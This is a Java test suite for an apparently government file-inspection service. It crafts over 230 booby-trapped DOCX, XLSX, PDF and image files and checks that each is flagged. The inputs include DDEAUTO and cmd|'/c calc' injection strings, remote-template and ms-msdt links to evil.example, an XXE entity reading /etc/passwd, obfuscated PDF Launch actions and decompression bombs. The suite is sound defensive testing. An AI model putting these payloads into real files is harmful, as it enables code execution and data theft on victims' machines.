package vn.laichau.hatangso.agency.inspection;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.RELATIONS;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.deflated;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.field;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.joined;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.object;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.office;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.packed;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.pdf;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.pdfOf;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.relation;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import vn.laichau.hatangso.agency.surroundings.SampleFiles;

class FilesThatDoHarmTest {

    @TempDir
    Path folder;

    static Optional<Harm> look(Path file, String extension) throws IOException {
        return switch (extension) {
            case "docx", "xlsx" -> ArchiveInspection.of(file, ArchiveLimits.DOCUMENT);
            case "pdf" -> PdfInspection.of(file);
            case "png" -> PictureInspection.of(file, "png");
            default -> PictureInspection.of(file, "jpeg");
        };
    }

    private Optional<Harm> look(CraftedFile crafted) throws IOException {
        return look(Files.write(folder.resolve("file"), crafted.bytes()), crafted.extension());
    }

    static Stream<CraftedFile> relations() {
        var kinds = Stream.of(
                        "vbaProject",
                        "wordVbaData",
                        "oleObject",
                        "control",
                        "attachedTemplate",
                        "aFChunk",
                        "subDocument",
                        "frame",
                        "externalLink",
                        "externalLinkPath",
                        "connections",
                        "queryTable",
                        "xlMacrosheet",
                        "dialogsheet",
                        "audio",
                        "video",
                        "mailMergeSource",
                        "recipientData",
                        "keyMapCustomizations",
                        "volatileDependencies",
                        "ui/extensibility",
                        "webextension",
                        "attachedToolbars",
                        "something-new")
                .map(kind -> office(
                        "a relation of the kind " + kind,
                        "docx",
                        "word/_rels/document.xml.rels",
                        relation(kind, "x.xml", "")));
        var spelled = Stream.of(
                        RELATIONS,
                        "http://purl.oclc.org/ooxml/officeDocument/relationships/",
                        "http://schemas.microsoft.com/office/2006/relationships/")
                .flatMap(address -> Stream.of(
                                "attachedTemplate",
                                "&#x61;ttachedTemplate",
                                "&#97;ttachedtemplate",
                                "ole&#79;bject",
                                "OLEOBJECT")
                        .map(kind -> office(
                                "a relation " + address + kind,
                                "xlsx",
                                "xl/_rels/workbook.xml.rels",
                                relation(address + kind, "x.xml", ""))));
        var template = relation("attachedTemplate", "https://evil.example/t.dotm", "External");
        var written = Stream.of(
                office(
                        "a template in single quotes",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        template.replace('"', '\'')),
                office(
                        "a template in UTF-16",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        ("\ufeff" + template).getBytes(UTF_16LE)),
                office(
                        "a template in the other UTF-16",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        ("\ufeff" + template).getBytes(UTF_16BE)),
                office(
                        "a template with a prefix",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        template.replace("xmlns=", "xmlns:p=")
                                .replace("<R", "<p:R")
                                .replace("</R", "</p:R")),
                office(
                        "a template behind a long comment",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        "<!--" + "x".repeat(100_000) + "-->" + template),
                office("a template of a part in capitals", "docx", "WORD/_RELS/SETTINGS.XML.RELS", template));
        return Stream.of(kinds, spelled, written).flatMap(all -> all);
    }

    static Stream<CraftedFile> targets() {
        return Stream.of(
                        "image http://evil.example/x.png",
                        "image \\\\evil.example\\x.png",
                        "image //evil.example/x.png",
                        "image fi&#x6c;e:///c:/x.png",
                        "hyperlink file:///c:/windows/x.exe",
                        "hyperlink \\\\evil.example\\share",
                        "hyperlink //evil.example/share",
                        "hyperlink ms-msdt:/id",
                        "hyperlink javascript:x",
                        "hyperlink java&#9;script:x",
                        "hyperlink search-ms:query",
                        "hyperlink fi&#x6c;e:///c:/x",
                        "hyperlink c:\\x.exe",
                        "stylesheet http://evil.example/x")
                .flatMap(words -> Stream.of("External", "&#69;xternal", "external")
                        .limit(words.startsWith("image h") ? 3 : 1)
                        .map(mode -> {
                            var kind = words.substring(0, words.indexOf(' '));
                            var target = words.substring(words.indexOf(' ') + 1);
                            return office(
                                    words + ", " + mode,
                                    "docx",
                                    "word/_rels/document.xml.rels",
                                    relation(kind, target, mode));
                        }));
    }

    static Stream<CraftedFile> parts() {
        return Stream.of(
                        "xl/vbaProject.bin",
                        "XL/VBAPROJECT.BIN",
                        "xl/vbaData.xml",
                        "xl/macrosheets/sheet1.xml",
                        "xl/activeX/activeX1.xml",
                        "xl/activeX/activeX1.bin",
                        "xl/embeddings/oleObject1.bin",
                        "xl/embeddings/setup.exe",
                        "xl/embeddings/x.xlsm",
                        "xl/embeddings/x.doc",
                        "xl/afchunk.htm",
                        "xl/afchunk.rtf",
                        "xl/afchunk.mht",
                        "x.lnk",
                        "x.hta",
                        "x.js",
                        "x.vbs",
                        "x.jar",
                        "x.ps1",
                        "customUI/customUI.xml",
                        "xl/externalLinks/externalLink1.xml",
                        "xl/media/video.mp4",
                        "xl/media/x.png.exe",
                        "xl/printerSettings.bin",
                        "xl/webextensions/taskpanes.xml",
                        "x")
                .map(part -> office("a part " + part, "xlsx", part, "<a/>"));
    }

    static Stream<CraftedFile> contentTypes() {
        var types = Stream.of(
                        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                        "application/vnd.ms-excel.sheet.m&#x61;croEnabled.main+xml",
                        "application/vnd.ms-word.document.MACROENABLED.main+xml",
                        "application/vnd.ms-office.vbaProject",
                        "application/vnd.ms-office.activeX+xml",
                        "application/vnd.openxmlformats-officedocument.oleObject",
                        "application/vnd.ms-excel.macrosheet+xml",
                        "application/x-msdownload")
                .map(type -> "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"" + type + "\"/></Types>")
                .toList();
        var plain = types.stream().map(type -> office("content types " + type, "xlsx", "[Content_Types].xml", type));
        var wide = office(
                "content types in UTF-16", "xlsx", "[Content_Types].xml", ("\ufeff" + types.get(0)).getBytes(UTF_16LE));
        return Stream.concat(plain, Stream.of(wide));
    }

    static Stream<CraftedFile> fields() {
        var word = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
        var dde = "DDEAUTO c:\\x.exe";
        return Stream.of(
                office("a field DDE", "docx", "word/document.xml", field("DDE cmd x")),
                office("a field DDEAUTO", "docx", "word/document.xml", field(" " + dde)),
                office("a field in small letters", "docx", "word/document.xml", field("ddeauto x")),
                office("a field in pieces", "docx", "word/document.xml", field(" D", "DE", "AUTO c:\\x.exe")),
                office("a field after a piece of spaces", "docx", "word/document.xml", field(" ".repeat(100), dde)),
                office("a field by numbers", "docx", "word/document.xml", field("D&#68;E x")),
                office("a field as data", "docx", "word/document.xml", field("<![CDATA[DDE x]]>")),
                office("a field of a header", "docx", "word/header1.xml", field(dde)),
                office("a field of a footnote", "docx", "word/footnotes.xml", field(dde)),
                office("a field of a comment", "docx", "word/comments.xml", field(dde)),
                office(
                        "a field that was deleted",
                        "docx",
                        "word/document.xml",
                        field(dde).replace("instrText", "delInstrText")),
                office("a field in UTF-16", "docx", "word/document.xml", ("\ufeff" + field(dde)).getBytes(UTF_16LE)),
                office(
                        "a field without an end",
                        "docx",
                        "word/document.xml",
                        "<w:p " + word + "><w:fldChar w:fldCharType=\"begin\"/><w:instrText>" + dde
                                + "</w:instrText></w:p>"),
                office(
                        "a field without a beginning",
                        "docx",
                        "word/document.xml",
                        "<w:p " + word + "><w:instrText>" + dde + "</w:instrText></w:p>"),
                office(
                        "a simple field",
                        "docx",
                        "word/document.xml",
                        "<w:fldSimple " + word + " w:instr=\" " + dde + "\"/>"),
                office("a field of a text that lies elsewhere", "docx", "text/main.xml", field(dde)),
                office(
                        "a field that includes",
                        "docx",
                        "word/document.xml",
                        field("INCLUDETEXT \"\\\\\\\\evil\\\\x.docx\"")),
                office(
                        "a field with a picture",
                        "docx",
                        "word/document.xml",
                        field(" includepicture \"https://evil.example/x.png\" \\d")),
                office(
                        "a field of an object",
                        "docx",
                        "word/document.xml",
                        field("LINK Excel.Sheet.12 \"c:\\\\x.xlsx\"")),
                office("a field of a database", "docx", "word/document.xml", field("DATABASE \\c \"DSN=x\"")),
                office("a field with a macro", "docx", "word/document.xml", field("MACROBUTTON x click")),
                office("a link to a file", "docx", "word/document.xml", field("HYPERLINK \"file:///c:/x.exe\"")),
                office("a link to a share", "docx", "word/document.xml", field("HYPERLINK \"\\\\\\\\evil\\\\x.exe\"")),
                office(
                        "a link to a program",
                        "docx",
                        "word/document.xml",
                        field("HYPERLINK \\o \"a tip\" \\n ms-msdt:/id")),
                office(
                        "a link in pieces",
                        "docx",
                        "word/document.xml",
                        field("HYPER", "LINK \"fi", "le:///c:/x\" \\t \"_blank\"")),
                office(
                        "a simple link",
                        "docx",
                        "word/document.xml",
                        "<w:fldSimple " + word + " w:instr='HYPERLINK \"javascript:x\"'/>"),
                office(
                        "a link without an end",
                        "docx",
                        "word/document.xml",
                        field("HYPERLINK c:\\x.exe").replaceAll("<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>", "")),
                office(
                        "letters to many",
                        "docx",
                        "word/settings.xml",
                        "<w:settings " + word
                                + "><w:mailMerge><w:connectString w:val=\"DSN=x\"/></w:mailMerge></w:settings>"),
                office(
                        "a field whose first word is a field",
                        "docx",
                        "word/document.xml",
                        field("</w:instrText></w:r>"
                                + field("QUOTE 68 68 69")
                                        .replace("<w:p ", "<w:x ")
                                        .replace("</w:p>", "</w:x>") + "<w:r><w:instrText> x")));
    }

    static Stream<CraftedFile> formulas() {
        var elsewhere = Stream.of(
                        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                        "http://purl.oclc.org/ooxml/spreadsheetml/main",
                        "http://schemas.microsoft.com/office/excel/2006/main")
                .map(words -> office(
                        "a formula of a sheet that lies elsewhere, " + words,
                        "xlsx",
                        "sheets/1.xml",
                        "<a xmlns='" + words + "'><f>cmd|x!A0</f></a>"));
        var plain = Stream.of(
                        "<f>cmd|'/c calc'!A0</f>",
                        "<f>cmd&#124;'/c calc'!A0</f>",
                        "<f><![CDATA[cmd|x!A0]]></f>",
                        "<f>'cmd'|'/c calc'!A0</f>",
                        "<f>1+\"a\"&amp;cmd|x!A0</f>",
                        "<f>CALL(\"x\",\"y\")</f>",
                        "<f>call (1)</f>",
                        "<f>REGISTER.ID(\"x\")</f>",
                        "<f>WEBSERVICE(\"https://evil.example\")</f>",
                        "<f>_xlfn.IMAGE(\"https://evil.example/x.png\")</f>",
                        "<f>RTD(\"x\",\"\",\"y\")</f>",
                        "<f>DDE(\"cmd\";\"x\";\"y\")</f>",
                        "<f>SQL.REQUEST(\"DSN=x\")</f>",
                        "<definedName name=\"x\">cmd|x!A0</definedName>",
                        "<formula>cmd|x!A0</formula>",
                        "<formula1>cmd|x!A0</formula1>",
                        "<formula2>cmd|x!A0</formula2>",
                        "<ddeLink/>")
                .map(formula -> office(formula, "xlsx", "xl/worksheets/sheet1.xml", "<a>" + formula + "</a>"));
        return Stream.concat(plain, elsewhere);
    }

    static Stream<CraftedFile> containers() {
        var doctype = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        var macros = office("", "xlsx", "xl/vbaProject.bin", "x").bytes();
        var nested =
                office("", "xlsx", "xl/embeddings/x.xlsx", SampleFiles.xlsx()).bytes();
        return Stream.of(
                office("a path upwards", "xlsx", "../x.xml", "<a/>"),
                office("a path from the root", "xlsx", "/x.xml", "<a/>"),
                office("a path of Windows", "xlsx", "xl\\x.xml", "<a/>"),
                office("a DTD", "xlsx", "xl/x.xml", doctype),
                office("a DTD behind a comment", "xlsx", "xl/x.xml", "<!--" + "x".repeat(5_000) + "-->" + doctype),
                office("a DTD in UTF-16", "xlsx", "xl/x.xml", ("\ufeff" + doctype).getBytes(UTF_16LE)),
                office("a part that ends too soon", "xlsx", "xl/x.xml", "<a>"),
                office("a document with macros in it", "docx", "word/embeddings/x.xlsx", macros),
                office("a document in a document in a document", "docx", "word/embeddings/x.xlsx", nested),
                office("a document in it that bursts", "docx", "word/embeddings/x.xlsx", SampleFiles.bomb()),
                office("a program that is called a document", "docx", "word/embeddings/x.xlsx", "MZ"),
                new CraftedFile("a container that bursts", "xlsx", SampleFiles.bomb()));
    }

    static Stream<CraftedFile> pdfs() {
        var names = Stream.of(
                "Launch",
                "JavaScript",
                "EmbeddedFile",
                "EmbeddedFiles",
                "RichMedia",
                "SubmitForm",
                "GoToR",
                "GoToE",
                "ImportData",
                "XFA",
                "Rendition",
                "FileAttachment",
                "JS",
                "EF",
                "Encrypt");
        var plain = names.flatMap(name -> Stream.of(
                pdf(name + " in the clear", object("<</S /" + name + ">>")),
                pdf(
                        name + " by numbers",
                        object("<</S /#" + Integer.toHexString(name.charAt(0)) + name.substring(1) + ">>")),
                pdf(
                        name + " packed",
                        packed("/FlateDecode", deflated(("5 0 <</S/" + name + "/D 1>>").getBytes(ISO_8859_1)))),
                pdf(
                        name + " with an odd letter, packed",
                        packed(
                                "[/FlateDecode]",
                                deflated(("5 0 <</S/" + name.replace("a", "#61").replace("G", "#47") + ">>")
                                        .getBytes(ISO_8859_1))))));
        var action = "5 0 <</S /Launch>>".getBytes(ISO_8859_1);
        var bytes = new String(pdfOf(), ISO_8859_1);
        var bomb = deflated(new byte[100 << 20]);
        return Stream.concat(
                plain,
                Stream.of(
                        new CraftedFile(
                                "an action in a later revision",
                                "pdf",
                                (bytes + object("<</S /Launch>>") + "%%EOF").getBytes(ISO_8859_1)),
                        new CraftedFile(
                                "a packed action in a later revision",
                                "pdf",
                                (bytes + packed("/FlateDecode", deflated(action)) + "%%EOF").getBytes(ISO_8859_1)),
                        new CraftedFile(
                                "an action that a later revision takes away",
                                "pdf",
                                (new String(pdfOf(object("<</S /Launch>>")), ISO_8859_1) + object("null") + "%%EOF")
                                        .getBytes(ISO_8859_1)),
                        pdf("an action in a comment, to which a table may point", "%5 0 obj <</S /Launch>> endobj\n"),
                        pdf(
                                "an action within a stream",
                                object("<</Length 40>>\nstream\n6 0 obj <</S /Launch>> endobj\nendstream")),
                        pdf("objects packed twice", packed("[/FlateDecode /FlateDecode]", deflated(deflated(action)))),
                        pdf("objects in letters", packed("[/ASCIIHexDecode /FlateDecode]", action)),
                        pdf("objects packed in another way", packed("/LZWDecode", action)),
                        pdf("objects packed in an unknown way", packed("7 0 R", action)),
                        pdf(
                                "objects packed in a way by numbers",
                                packed("/LZWDecode", action).replace("/Filter", "/F#69lter")),
                        pdf(
                                "objects with a predictor",
                                packed("/FlateDecode /DecodeParms <</Predictor 12>>", deflated(action))),
                        pdf(
                                "objects without their type",
                                packed("/FlateDecode", deflated(action)).replace("/Type /ObjStm ", "")),
                        pdf(
                                "objects that break off",
                                packed("/FlateDecode", Arrays.copyOf(deflated(action), deflated(action).length - 4))),
                        pdf(
                                "objects far behind",
                                packed(
                                        "/FlateDecode",
                                        deflated((" ".repeat((1 << 20) - 8) + "<</S /Launch>>").getBytes(ISO_8859_1)))),
                        pdf("objects that burst", packed("/FlateDecode", bomb)),
                        pdf(
                                "objects behind a long list",
                                packed("/FlateDecode /X [" + "1 ".repeat(5_000) + "]", deflated(action))),
                        pdf("objects behind the mark of one", packed("/FlateDecode /X (6 0 obj)", deflated(action))),
                        pdf("objects behind a remark", packed("/FlateDecode %6 0 obj >>\n", deflated(action))),
                        pdf(
                                "objects behind a false end",
                                packed("/FlateDecode /W <</V 1>> /X (>>) /Y (\\)>>) /Z <3e3e>", deflated(action))),
                        pdf("objects behind a false stream", packed("/FlateDecode /X (stream\n)", deflated(action))),
                        pdf(
                                "objects packed in few words",
                                packed("/Fl", deflated(action)).replace("/Filter", "/F")),
                        pdf(
                                "objects that lie in another file",
                                packed("/FlateDecode /F (x)", deflated("5 0 <</S /URI>>".getBytes(ISO_8859_1)))),
                        pdf("objects that cannot be unpacked", packed("/FlateDecode", "none".getBytes(UTF_8))),
                        pdf("dictionaries without an end", "5 0 obj <<\n".repeat(5_000)),
                        new CraftedFile("a container behind a document", "pdf", joined(pdfOf(), SampleFiles.xlsx()))));
    }

    static Stream<CraftedFile> pictures() {
        var png = SampleFiles.picture("png");
        var jpeg = SampleFiles.picture("jpeg");
        return Stream.of(
                new CraftedFile("a container behind it", "png", joined(png, SampleFiles.xlsx())),
                new CraftedFile("a container behind it", "jpg", joined(jpeg, SampleFiles.xlsx())),
                new CraftedFile("a beginning alone", "png", Arrays.copyOf(png, 20)),
                new CraftedFile("a beginning alone", "jpg", Arrays.copyOf(jpeg, 20)),
                new CraftedFile(
                        "something else behind the mark", "png", joined(Arrays.copyOf(png, 8), "MZ".getBytes(UTF_8))),
                new CraftedFile(
                        "something else behind the mark", "jpg", joined(Arrays.copyOf(jpeg, 3), "MZ".getBytes(UTF_8))),
                new CraftedFile("a document in a comment", "jpg", commented(jpeg, "%PDF-1.7")),
                new CraftedFile("a page in a comment", "jpg", commented(jpeg, "<HTML><script>")),
                new CraftedFile("a billion points", "png", withSize(png, 40_000, 30_000)));
    }

    static Stream<CraftedFile> all() {
        return Stream.of(
                        relations(),
                        targets(),
                        parts(),
                        contentTypes(),
                        fields(),
                        formulas(),
                        containers(),
                        pdfs(),
                        pictures())
                .flatMap(kind -> kind);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("all")
    void areRefused(CraftedFile crafted) throws IOException {
        assertThat(look(crafted)).as(crafted.way()).isPresent();
    }

    @Test
    void areManyAndOfEveryKind() {
        assertThat(all()).hasSizeGreaterThan(230).doesNotHaveDuplicates();
    }

    /** What each is made of is sound without what was put into it. */
    @Test
    void wouldBeTakenWithoutIt() throws IOException {
        assertThat(look(new CraftedFile("", "docx", SampleFiles.zip(CraftedFile.soundParts("docx")))))
                .isEmpty();
        assertThat(look(new CraftedFile("", "xlsx", SampleFiles.zip(CraftedFile.soundParts("xlsx")))))
                .isEmpty();
        assertThat(look(pdf("", object("<</S /URI>>")))).isEmpty();
        assertThat(look(pdf("", packed("/FlateDecode", deflated("5 0 <</S /URI>>".getBytes(ISO_8859_1))))))
                .isEmpty();
        assertThat(look(pdf(
                        "",
                        packed(
                                "/FlateDecode /X [" + "1 ".repeat(5_000) + "] /Y (>> obj (\\\\))",
                                deflated("5 0 <</S /URI>>".getBytes(ISO_8859_1))))))
                .isEmpty();
        for (var code : List.of(
                "PAGE ",
                "HYPERLINK \"https://laichau.gov.vn\" \\o \"Trang: chủ\"",
                "HYPERLINK \\l \"_Toc1\" \\h",
                "HYPERLINK \"mailto:vp@laichau.gov.vn\" \\t \"_blank\"",
                "hyperlink phu-luc.docx \\* MERGEFORMAT",
                "TOC \\o \"1-3\" \\h \\z \\u",
                "REF lien-ket \\h",
                "LINKED_bookmark",
                " ".repeat(5_000) + "PAGE",
                "ADDIN ZOTERO_ITEM CSL_CITATION " + "x".repeat(10_000))) {
            assertThat(look(office("", "docx", "word/document.xml", field(code.substring(0, 2), code.substring(2)))))
                    .as(code)
                    .isEmpty();
        }
        assertThat(look(office(
                        "",
                        "docx",
                        "word/document.xml",
                        "<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'><m:num/></m:f>")))
                .isEmpty();
        assertThat(look(office(
                        "",
                        "docx",
                        "word/_rels/document.xml.rels",
                        relation("hyperlink", "https://laichau.gov.vn", "External"))))
                .isEmpty();
        assertThat(look(office("", "xlsx", "xl/worksheets/sheet1.xml", "<a><f>SUM('A|B'!A1,\"x|y\")</f></a>")))
                .isEmpty();
        assertThat(look(office("", "docx", "word/embeddings/x.xlsx", SampleFiles.xlsx())))
                .isEmpty();
        assertThat(look(new CraftedFile("", "png", SampleFiles.picture("png")))).isEmpty();
        assertThat(look(new CraftedFile("", "jpg", SampleFiles.picture("jpeg"))))
                .isEmpty();
        assertThat(look(new CraftedFile("", "jpg", commented(SampleFiles.picture("jpeg"), "a camera"))))
                .isEmpty();
    }

    /** Each object and what is packed is read once: there is enough for the longest. */
    @Test
    void wouldBeTakenHoweverLong() throws IOException {
        var numbers = new Random(7)
                .ints(200_000, 0, 10_000)
                .mapToObj(Integer::toString)
                .collect(Collectors.joining(" "));
        var stream = packed("/FlateDecode", deflated(numbers.getBytes(ISO_8859_1)));
        var plain = object("<</Type /Annot /Rect [0 0 10 10] /A <</S /URI>>>> % none");
        var crafted = pdf("", plain.repeat(100_000), stream.repeat(20));

        assertThat(crafted.bytes()).hasSizeGreaterThan(10 << 20);
        assertThat(look(crafted)).isEmpty();
        assertThat(look(pdf("", packed("/FlateDecode", emptyBlocks(1 << 20))))).isEmpty();
    }

    /** What many objects lead to is paid for by each of them, also where it is nothing. */
    @Test
    void arePdfsThatAreReadTooOften() throws IOException {
        var manyObjects = "obj%".repeat(1_400);
        for (var crafted : List.of(
                pdf("comments behind objects", "obj%".repeat(5_000_000)),
                pdf("comments behind dictionaries", "obj<<>>%".repeat(2_500_000)),
                pdf("blanks behind a stream of many", manyObjects + "\n<<>>stream" + " ".repeat(5 << 20)),
                pdf(
                        "empty blocks of many",
                        manyObjects
                                + packed("/FlateDecode", emptyBlocks(1 << 20)).replaceFirst("^5 0 obj", "")))) {
            assertThat(look(crafted)).as(crafted.way()).contains(Harm.TOO_LARGE);
        }
    }

    /** A second way to pack them is one on both sides of the first. */
    @Test
    void areObjectsPackedTwiceInEitherOrder() throws IOException {
        var action = "5 0 <</S /URI>>".getBytes(ISO_8859_1);
        for (var filter : List.of("[/LZWDecode /FlateDecode]", "[/FlateDecode /LZWDecode]")) {
            assertThat(look(pdf("", packed(filter, deflated(action)))))
                    .as(filter)
                    .contains(Harm.UNSAFE);
        }
    }

    @Test
    void areFieldsBehindMuchElse() throws IOException {
        var dde = "DDEAUTO c:\\x.exe";
        for (var pieces : List.of(
                new String[] {" ".repeat(4_096), dde},
                new String[] {" ".repeat(4_096) + dde},
                (" ,".repeat(5_000) + dde).split(",", 0),
                new String[] {"HYPERLINK \\o \"" + "x".repeat(4_096), "\" file:///c:/x.exe"},
                new String[] {"HYPERLINK \\o \"" + "x".repeat(4_096) + "\" file:///c:/x.exe"})) {
            assertThat(look(office("", "docx", "word/document.xml", field(pieces))))
                    .contains(Harm.ACTIVE);
        }
    }

    /** To its last byte. */
    @Test
    void areDocumentsWithinThatNeedTooMuchRoom() throws IOException {
        var most = new byte[8 << 20];
        new Random(7).nextBytes(most);
        assertThat(look(office("", "docx", "word/embeddings/x.xlsx", most))).contains(Harm.BROKEN);
        assertThat(look(office("", "docx", "word/embeddings/x.xlsx", Arrays.copyOf(most, most.length + 1))))
                .contains(Harm.TOO_LARGE);
    }

    @Test
    void areToldByWhatTheyAre() throws IOException {
        assertThat(look(office("", "docx", "word/document.xml", field("DDE x"))))
                .contains(Harm.ACTIVE);
        assertThat(look(office("", "xlsx", "xl/x.xml", "<!DOCTYPE a><a/>"))).contains(Harm.UNSAFE);
        assertThat(look(office("", "xlsx", "xl/x.xml", "<a>"))).contains(Harm.BROKEN);
        assertThat(look(pdf("", object("<</S /Launch>>")))).contains(Harm.ACTIVE);
        assertThat(look(new CraftedFile("", "pdf", joined(pdfOf(), SampleFiles.xlsx()))))
                .contains(Harm.UNSAFE);
        assertThat(look(pdf("", packed("/FlateDecode", deflated(new byte[100 << 20])))))
                .contains(Harm.TOO_LARGE);
        assertThat(look(new CraftedFile("", "png", withSize(SampleFiles.picture("png"), 40_000, 30_000))))
                .contains(Harm.TOO_LARGE);
    }

    /** Packed, and nothing in any of them. */
    private static byte[] emptyBlocks(int count) {
        return ("x\1" + "\0\0\0\u00ff\u00ff".repeat(count) + "\1\0\0\u00ff\u00ff\0\0\0\1").getBytes(ISO_8859_1);
    }

    /** A comment right behind the mark. */
    private static byte[] commented(byte[] jpeg, String comment) {
        var length = comment.length() + 2;
        return joined(
                new byte[] {jpeg[0], jpeg[1], (byte) 0xff, (byte) 0xfe, (byte) (length >> 8), (byte) length},
                comment.getBytes(ISO_8859_1),
                Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    /** The head of a PNG has width, height and a checksum behind its mark. */
    private static byte[] withSize(byte[] png, int width, int height) {
        var changed = ByteBuffer.wrap(png.clone());
        changed.putInt(16, width).putInt(20, height);
        var sum = new CRC32();
        sum.update(changed.array(), 12, 17);
        changed.putInt(29, (int) sum.getValue());
        return changed.array();
    }
}
